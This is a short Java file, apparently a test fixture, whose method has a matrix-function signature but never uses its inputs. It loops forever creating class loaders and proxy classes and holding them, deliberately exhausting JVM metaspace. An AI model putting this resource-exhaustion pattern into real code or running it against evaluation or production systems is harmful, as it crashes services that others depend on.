import java.lang.reflect.Proxy;
import java.net.URL;
import java.net.URLClassLoader;
import java.util.ArrayList;
import java.util.List;

final class FillsMetaspace {

    static final List<Object> HELD = new ArrayList<>();

    static double[][] first(double[][] W, double[][] x) throws Exception {
        while (true) {
            ClassLoader loader = new URLClassLoader(new URL[0], FillsMetaspace.class.getClassLoader());
            Class<?>[] types = {Runnable.class, Comparable.class, java.util.List.class, java.util.Map.Entry.class};
            HELD.add(Proxy.newProxyInstance(loader, types, (proxy, method, arguments) -> null));
        }
    }
}
